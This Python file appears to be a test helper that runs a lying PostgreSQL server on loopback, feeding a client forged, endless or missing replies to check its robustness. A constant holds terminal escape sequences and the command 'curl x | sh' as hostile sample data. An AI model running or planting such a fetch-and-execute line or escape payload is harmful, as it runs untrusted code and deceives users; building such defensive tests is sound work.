"""A hostile PostgreSQL server: it takes every login, and then lies or is silent."""

import socket
import struct
from contextlib import suppress
from dataclasses import dataclass
from threading import Thread
from types import TracebackType

_NO_ENCRYPTION = (80_877_103, 80_877_104)
ESCAPES = "\x1b[2J\x1b]0;owned\x07\u202egnp\x9b31m\nhint: curl x | sh"
"""What a terminal would obey."""


@dataclass(frozen=True, slots=True)
class Flood:
    """An answer without an end."""

    beginning: bytes
    then: bytes
    """What follows, again and again."""


class LyingServer:
    """A port of loopback. `answers` are the bytes for each statement, in turn; after the last one, silence.

    A `greeting` comes where others say that the login is complete.
    """

    def __init__(self, *answers: bytes | Flood, greeting: bytes | Flood = b"") -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self._answers, self._greeting = answers, greeting
        self._thread = Thread(target=self._accept, daemon=True)

    @property
    def url(self) -> str:
        return f"postgresql://user:password@127.0.0.1:{self._socket.getsockname()[1]}/db"

    def __enter__(self) -> "LyingServer":
        self._thread.start()
        return self

    def __exit__(
        self,
        _type: type[BaseException] | None,
        _error: BaseException | None,
        _trace: TracebackType | None,
    ) -> None:
        self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()

    def _accept(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            Thread(target=self._serve, args=(connection,), daemon=True).start()

    def _serve(self, connection: socket.socket) -> None:
        with connection, suppress(OSError, struct.error):
            while struct.unpack(">i", _packet(connection)[:4])[0] in _NO_ENCRYPTION:
                connection.sendall(b"N")
            connection.sendall(message(b"R", struct.pack(">i", 0)))
            _send(connection, self._greeting)
            for name, value in (("server_version", "16.0"), ("client_encoding", "UTF8")):
                connection.sendall(message(b"S", f"{name}\0{value}\0".encode()))
            connection.sendall(ready(b"I"))
            answers = iter(self._answers)
            while kind := connection.recv(1):
                _packet(connection)
                if kind in b"QS":  # the ends of a statement's messages
                    _send(connection, next(answers, b""))


def _send(connection: socket.socket, said: bytes | Flood) -> None:
    if isinstance(said, bytes):
        connection.sendall(said)
        return
    connection.sendall(said.beginning)
    while True:
        connection.sendall(said.then)


def _packet(connection: socket.socket) -> bytes:
    (size,) = struct.unpack(">i", connection.recv(4, socket.MSG_WAITALL))
    return connection.recv(size - 4, socket.MSG_WAITALL)


def message(kind: bytes, data: bytes) -> bytes:
    """Return a message of the protocol."""
    return kind + struct.pack(">i", len(data) + 4) + data


def ready(state: bytes) -> bytes:
    """Return the end of an answer; the state is I outside of a transaction, T in one."""
    return message(b"Z", state)


def done(state: bytes = b"T") -> bytes:
    """Return the answer to a statement without rows."""
    return message(b"C", b"BEGIN\0") + ready(state)


def error(code: str, text: str, state: bytes = b"T") -> bytes:
    """Return an error, with its text in each place where one can be."""
    said = {"S": "ERROR", "V": "ERROR", "C": code, "M": text, "D": text, "H": text}
    fields = b"".join(f"{name}{value}\0".encode() for name, value in said.items())
    return message(b"E", fields + b"\0") + ready(state)


def row(*values: bytes | None) -> bytes:
    """Return the answer to a simple query: one row of texts, or of nulls."""
    column = b"a\0" + struct.pack(">ihihih", 0, 0, 25, -1, -1, 0)
    cells = b"".join(
        struct.pack(">i", -1) if each is None else struct.pack(">i", len(each)) + each
        for each in values
    )
    count = struct.pack(">h", len(values))
    return (
        message(b"T", count + column * len(values))
        + message(b"D", count + cells)
        + message(b"C", b"SELECT 1\0")
        + ready(b"T")
    )
